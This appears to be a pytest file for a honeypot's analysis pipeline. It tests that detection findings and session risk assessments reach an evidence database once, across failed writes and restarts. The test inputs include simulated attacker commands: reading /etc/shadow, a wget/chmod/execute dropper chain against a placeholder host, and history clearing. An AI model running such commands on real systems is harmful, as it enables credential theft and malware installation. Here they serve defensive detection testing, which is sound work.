"""Findings reach the evidence with the events that they are of: once, whatever fails on the way, and over a restart."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from mirage.analysis.analyst import Analyst
from mirage.analysis.assessment import Assessment, assess
from mirage.analysis.rulebook import shipped_rules
from mirage.analysis.session import Detector
from mirage.app.analysis import CLOSED, LOOK_EVERY, Reloading, Watcher, assessment_of
from mirage.app.config import AnalysisConfig, Config
from mirage.base.clock import SECOND, ManualClock
from mirage.base.events import ArtifactCaptured, ConnectionClosed, ConnectionOpened, Envelope, Event, FileChanged, LineEntered
from mirage.evidence.api import Evidence, open_evidence
from mirage.evidence.gallery import GalleryOptions
from mirage.evidence.sinks import Batch
from mirage.evidence.sinks.database import DatabaseSink
from mirage.journal.reader import JournalReader, Record
from tests.unit.evidence.samples import SESSION, envelopes, journal, one_of_each

DETECTOR = Detector(Analyst(shipped_rules()))
OPENED = ConnectionOpened(protocol="ssh", source_ip="192.0.2.77", source_port=1, local_ip="198.51.100.2", local_port=22)


def typed(*texts: str) -> list[tuple[float, Event]]:
    return [
        (float(at), LineEntered(text=text.encode("utf-8", "surrogateescape"), mode="terminal")) for at, text in enumerate(texts, 1)
    ]


def written(options: GalleryOptions, happened: list[tuple[float, Event]]) -> list[Record]:
    journal(options.journal, envelopes(happened))
    reader = JournalReader(options.journal)
    records = reader.read()
    reader.close()
    return records


def sink_of(options: GalleryOptions) -> DatabaseSink:
    sink = DatabaseSink(options.url, lambda: Watcher(lambda: DETECTOR))
    sink.open_now()
    return sink


def found(options: GalleryOptions) -> list[tuple[str, str]]:
    """(severity, rule) of the alerts in the evidence."""
    evidence = open_evidence(options, catch_up_first=False)
    rows = evidence.findings(session=SESSION)
    evidence.close()
    return [(row.severity, row.rule) for row in rows if row.severity not in ("info", "low")]


@pytest.fixture
def options(tmp_path: Path) -> GalleryOptions:
    return GalleryOptions(url=f"sqlite:///{tmp_path}/evidence.sqlite", journal=tmp_path / "journal", home=tmp_path)


def test_findings_are_stored_with_their_events(options: GalleryOptions) -> None:
    records = written(options, [(0.0, OPENED), *typed("uptime; cat /etc/shadow")])
    sink = sink_of(options)
    sink.write_now(Batch(records, {}))
    sink.write_now(Batch(records, {}))
    sink.close_now()
    evidence = Evidence(options)
    (row,) = [row for row in evidence.session(SESSION).findings if row.severity == "high"]
    assert (row.id, row.rule, row.techniques, row.matched) == (
        records[1].id,
        "password-hashes-read",
        ["T1003.008"],
        "cat /etc/shadow",
    )
    evidence.close()


def test_a_batch_that_fails_and_comes_again_loses_no_finding(options: GalleryOptions, monkeypatch: pytest.MonkeyPatch) -> None:
    records = written(options, [(0.0, OPENED), *typed("wget http://192.0.2.5/k", "chmod +x k", "./k")])
    sink = sink_of(options)
    with monkeypatch.context() as broken:
        broken.setattr("mirage.evidence.sinks.database._Transaction.store", _refuse)
        with pytest.raises(Exception, match="disk full"):
            sink.write_now(Batch(records, {}))
    sink.write_now(Batch(records, {}))
    sink.close_now()
    assert ("high", "dropper") in found(options)


def _refuse(*_: object) -> None:
    raise OSError("disk full")


def test_a_session_is_followed_over_a_restart(options: GalleryOptions) -> None:
    records = written(options, [(0.0, OPENED), *typed("wget http://192.0.2.5/k", "chmod +x k", "./k")])
    for part in (records[:3], records[3:]):
        sink = sink_of(options)
        sink.write_now(Batch(part, {}))
        sink.close_now()
    assert ("high", "dropper") in found(options)


def test_what_no_text_holds_is_stored_all_the_same(options: GalleryOptions) -> None:
    records = written(options, [(0.0, OPENED), *typed("cat /etc/shadow '\udcff\x00'", "#!\udcff\n\udcff -c 'cat /etc/shadow'")])
    sink = sink_of(options)
    sink.write_now(Batch(records, {}))
    sink.close_now()
    assert set(found(options)) == {("high", "password-hashes-read")}
    evidence = Evidence(options)
    assert evidence.counts()["rejected"] == 0
    evidence.close()


def test_no_event_of_the_catalogue_is_too_much(options: GalleryOptions) -> None:
    watcher = Watcher(lambda: DETECTOR)
    for number, event in enumerate(one_of_each()):
        watcher.examine(Envelope(id=str(number), time=number * SECOND, event=event, session="s", source="192.0.2.1"))


def test_sessions_that_are_over_are_forgotten_and_what_they_came_to_is_not() -> None:
    watcher = Watcher(lambda: DETECTOR)
    names = [f"s{number}" for number in range(CLOSED + 2)]
    for name in names:
        for event in (OPENED, ConnectionClosed(reason="bye", duration=1)):
            watcher.examine(Envelope(id="1", time=1, event=event, session=name))
    assert [watcher.knows(name) for name in names] == [False, False, *[True] * CLOSED]
    assert all((row := watcher.assess(name)) is not None and row.is_final for name in names)
    assert watcher.assess(names[0]) is None


def test_what_happens_after_a_session_is_over_does_not_take_it_up_anew(options: GalleryOptions) -> None:
    late = FileChanged(change="written", path=b"/etc/cron.d/x")
    records = written(options, [*STORY, BYE, (9.5, late)])
    sink = sink_of(options)
    sink.write_now(Batch(records, {}))
    sink.close_now()
    judged = stored_assessment(options)
    assert judged.is_final and judged == assess(DETECTOR, [record.envelope for record in records])


def test_rules_of_the_operator_are_read_again_when_they_change(tmp_path: Path) -> None:
    rule = "id: {0}\ntitle: T\ntechniques: [T1059]\nseverity: high\nconfidence: high\nmatch: {{kind: command, program: [{0}]}}\nhits: [{0}]\nmisses: [ls]\n"
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "a.yml").write_text(rule.format("aaa"))
    clock = ManualClock()
    watcher = Watcher(Reloading(Config(analysis=AnalysisConfig(rules=[str(mine)])), clock))

    def rules(session: str) -> list[str]:
        event = LineEntered(text=b"aaa; bbb", mode="exec")
        return [row.rule for row in watcher.examine(Envelope(id="1", time=1, event=event, session=session))]

    assert rules("one") == ["aaa"]
    (mine / "b.yml").write_text(rule.format("bbb"))
    assert rules("two") == ["aaa"]
    clock.advance(LOOK_EVERY)
    assert rules("three") == ["aaa", "bbb"]
    (mine / "a.yml").write_text("broken: [")
    clock.advance(LOOK_EVERY)
    assert rules("four") == ["bbb"]


STORY = [(0.0, OPENED), *typed("uname -a", "cat /etc/shadow", "wget http://192.0.2.5/k", "chmod +x k", "./k", "history -c")]
BYE = (9.0, ConnectionClosed(reason="bye", duration=1))


def stored_assessment(options: GalleryOptions) -> Assessment:
    evidence = Evidence(options)
    row = evidence.session(SESSION).assessment
    evidence.close()
    assert row is not None
    judged = msgspec.convert(row.body, Assessment)
    assert (row.is_final, row.risk, row.skill, row.typist, row.summary) == (
        judged.is_final, judged.risk, judged.skill, judged.typist, judged.summary,
    )  # fmt: skip
    return judged


def test_an_assessment_grows_with_its_session_and_is_final_when_it_closes(options: GalleryOptions) -> None:
    records = written(options, [*STORY, BYE])
    sink = sink_of(options)
    risks = []
    for record in records:
        sink.write_now(Batch([record], {}))
        judged = stored_assessment(options)
        risks.append(judged.risk)
        assert judged.is_final == (record is records[-1])
    sink.close_now()
    assert risks == sorted(risks) and risks[0] == 0 and risks[-1] > 50
    assert [phase.tactic for phase in judged.phases][:2] == ["discovery", "credential-access"]


def test_a_session_that_was_stored_without_an_assessment_is_assessed_when_asked(options: GalleryOptions) -> None:
    records = written(options, [*STORY, BYE])
    sink = DatabaseSink(options.url)
    sink.open_now()
    sink.write_now(Batch(records, {}))
    sink.close_now()
    evidence = Evidence(options)
    assert evidence.session(SESSION).assessment is None
    row = assessment_of(Config(), SESSION, evidence.events(session=SESSION))
    evidence.close()
    assert (row.is_final, row.last) == (True, records[-1].envelope.time)
    assert msgspec.convert(row.body, Assessment) == assess(DETECTOR, [record.envelope for record in records])


@pytest.mark.parametrize("cuts", [[1], [3], [2, 5], [1, 2, 3, 4, 5, 6, 7]])
def test_what_is_replayed_is_assessed_as_it_was_live_however_it_came(options: GalleryOptions, cuts: list[int]) -> None:
    records = written(options, [*STORY, BYE])
    for start, end in zip([0, *cuts], [*cuts, None], strict=True):  # each with a gallery of its own: restarts in between
        sink = sink_of(options)
        sink.write_now(Batch(records[start:end], {}))
        sink.close_now()
    evidence = Evidence(options)
    replayed = assess(DETECTOR, evidence.events(session=SESSION))
    evidence.close()
    assert stored_assessment(options) == replayed


def test_an_assessment_of_a_batch_that_failed_is_stored_with_it_once_it_comes_again(
    options: GalleryOptions, monkeypatch: pytest.MonkeyPatch
) -> None:
    records = written(options, [*STORY, BYE])
    sink = sink_of(options)
    with monkeypatch.context() as broken:
        broken.setattr("mirage.evidence.sinks.database._Transaction.store", _refuse)
        with pytest.raises(Exception, match="disk full"):
            sink.write_now(Batch(records, {}))
    sink.write_now(Batch(records, {}))
    sink.close_now()
    assert stored_assessment(options) == assess(DETECTOR, [record.envelope for record in records])


def test_a_record_that_the_store_refuses_makes_no_other_count_twice(options: GalleryOptions) -> None:
    refused = ArtifactCaptured(sha256="cd" * 32, size=2**63 + 1, origin="upload")
    records = written(options, [STORY[0], *STORY[1:], (8.5, refused), BYE])
    sink = sink_of(options)
    sink.write_now(Batch(records, {}))
    sink.close_now()
    judged = stored_assessment(options)
    assert {phase.tactic: phase.findings for phase in judged.phases} == {
        phase.tactic: phase.findings for phase in assess(DETECTOR, [record.envelope for record in records]).phases
    }
